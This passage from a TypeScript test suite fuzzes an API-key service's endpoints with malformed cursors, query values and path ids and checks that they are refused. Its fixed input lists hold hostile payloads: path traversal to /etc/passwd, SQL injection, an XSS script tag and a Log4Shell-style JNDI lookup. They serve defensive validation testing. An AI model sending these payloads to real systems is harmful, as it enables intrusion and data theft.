    if (first?.status !== 201) finding('idempotency key reused: setup', String(first?.status));
    expect(categoriesWith('idempotency')).toEqual([]);
  });

  it('bad cursors and query values are refused with 400; valid ones answer 200', async () => {
    const { s, ids } = await target();
    const listOps = covered.filter((op) => operations[op].method === 'get' && parametersOf(op).some((p) => p.name === 'cursor'));
    const fixed: Record<string, string[]> = {
      cursor: ['!!', '', 'a'.repeat(513), 'abc', Buffer.from('{"p":1}').toString('base64url'), Buffer.from('null').toString('base64url'), Buffer.from('{"p":"zzz"}').toString('base64url'), Buffer.from('__proto__').toString('base64url'), "' OR 1=1 --", '../../etc/passwd'],
      limit: ['0', '101', '-1', '1.5', 'abc', '1e2', '', '9'.repeat(30), '0x10', ' 5', 'NaN', 'Infinity'],
    };
    const skipped: string[] = [];
    for (const [index, op] of listOps.entries()) {
      const params = parametersOf(op);
      if (params.some((p) => p.in === 'query' && p.required)) {
        skipped.push(op);
        continue;
      }
      const path = pathOf(op, ids);
      for (const param of params.filter((p) => p.in === 'query')) {
        const values = [...(fixed[param.name] ?? []), ...HOSTILE_STRINGS, 'x'.repeat(2000), 'active,revoked'];
        const check = async (value: string) => {
          const url = `${path}?${new URLSearchParams({ [param.name]: value })}`;
          const coerced = param.schema.type === 'integer' && /^-?\d+$/.test(value) ? Number(value) : param.schema.type === 'array' ? value.split(',') : value;
          const valid = paramAccepts(param.schema, coerced);
          if (param.name === 'cursor' && valid) {
            await probe(s, 'query cursor', 'GET', url, {}, { status: [200, 400], code: ['invalid_cursor'] });
          } else {
            await probe(s, `query ${valid ? 'valid' : 'invalid'}`, 'GET', url, {}, valid ? { status: [200] } : { status: [400], code: ['validation_failed', 'invalid_cursor'] });
          }
        };
        for (const value of values) await check(value);
        await fc.assert(fc.asyncProperty(fc.string({ unit: 'binary', maxLength: 40 }), check), { seed: SEED + 300 + index, numRuns: Math.ceil(NUM_RUNS / 4) });
      }
    }
    if (skipped.length) lines.push(`[hostile-input] query values: skipped ${skipped.join(', ')} (required query parameters)`);
    expect(categoriesWith('query')).toEqual([]);
  });

  it('bad path ids are refused with 400 (or 404 when well-formed), never acted on', async () => {
    const { s, ids } = await target();
    const fixed = ['../../etc/passwd', "' OR 1=1 --", '<script>alert(1)</script>', '${jndi:ldap://x/a}', 'a'.repeat(5000), '😀', '\u0000', ' ', '%', '%00', 'key_', 'KEY_AAAAAAAAAAAAAAAAAAAAAA', 'key_AAAAAAAAAAAAAAAAAAAAA', 'key_AAAAAAAAAAAAAAAAAAAAAAA', 'mem_AAAAAAAAAAAAAAAAAAAAAA', 'ws_AAAAAAAAAAAAAAAAAAAAAA', 'role_AAAAAAAAAAAAAAAAAAAAAA', 'no.such_scope', '*', 'api_keys.*', 'admin', 'member', 'sk_live_' + 'A'.repeat(36)];
    const pathOps = covered.filter((op) => operations[op].path.includes('{'));
    for (const [index, op] of pathOps.entries()) {
      const spec = operations[op];
      const body = spec.hasBody ? exampleBody(op) : undefined;
      for (const param of parametersOf(op).filter((p) => p.in === 'path')) {
        const check = async (value: string) => {
          if (value === '' || value === '.' || value === '..') return; // URL semantics, not the app's
          const valid = paramAccepts(param.schema, value);
          const path = pathOf(op, ids, { [param.name]: value });
          await probe(s, `path id ${valid ? 'well-formed' : 'malformed'}`, spec.method.toUpperCase(), path, body === undefined ? {} : { body }, valid ? {} : { status: [400], code: ['validation_failed'] });
        };
        for (const value of fixed) await check(value);
        await fc.assert(
          fc.asyncProperty(fc.string({ unit: 'binary', minLength: 1, maxLength: 40 }).filter((v) => { try { encodeURIComponent(v); return true; } catch { return false; } }), check),
          { seed: SEED + 400 + index, numRuns: Math.ceil(NUM_RUNS / 6) },
        );
      }
    }
    expect(categoriesWith('path id')).toEqual([]);
  });

  it('unicode and injection strings survive the data file unchanged', async () => {
    const dir = await mkdtemp(join(tmpdir(), 'tessera-hostile-'));
    try {
      const clock = new ManualClock(T0);
      const store = await openFileStore(dir);
      const { app } = createApp({ store, clock, events: { record: () => {} }, logError: () => {} });
      const boot = (await bootstrap(store, new Date(clock.now())))!;
      const names = HOSTILE_STRINGS.map((v) => (v.length < 3 ? `${v}xyz` : v).slice(0, 50));
      const created: Array<{ id: string; name: string; metadata: Record<string, unknown> }> = [];
      for (const name of names) {
        const res = await send(app, 'POST', `/v1/workspaces/${boot.workspace.id}/api-keys`, { token: boot.token!, body: { name, description: name, metadata: { note: name } } });
        tried['file round trip'] = (tried['file round trip'] ?? 0) + 1;
        if (res.status !== 201) finding('file round trip: hostile name refused', `${JSON.stringify(name)} -> ${res.status} ${res.text.slice(0, 200)}`);
        else created.push({ id: res.body.id, name, metadata: { note: name } });
      }
      await store.close();
      const reopened = await openFileStore(dir);
      for (const c of created) {
        const record = await reopened.apiKey(c.id);
        if (record?.name !== c.name || record.description !== c.name || JSON.stringify(record.metadata) !== JSON.stringify(c.metadata)) {
          finding('file round trip: value changed on disk', `${JSON.stringify(c.name)} came back as ${JSON.stringify(record?.name)}`);
        }
      }
      await reopened.close();
    } finally {
      await rm(dir, { recursive: true, force: true });
    }
    expect(categoriesWith('file round trip')).toEqual([]);
  });
});

function operationRequiresBody(op: OperationId): boolean {
  return Boolean(operationObject(op).requestBody?.required);
}
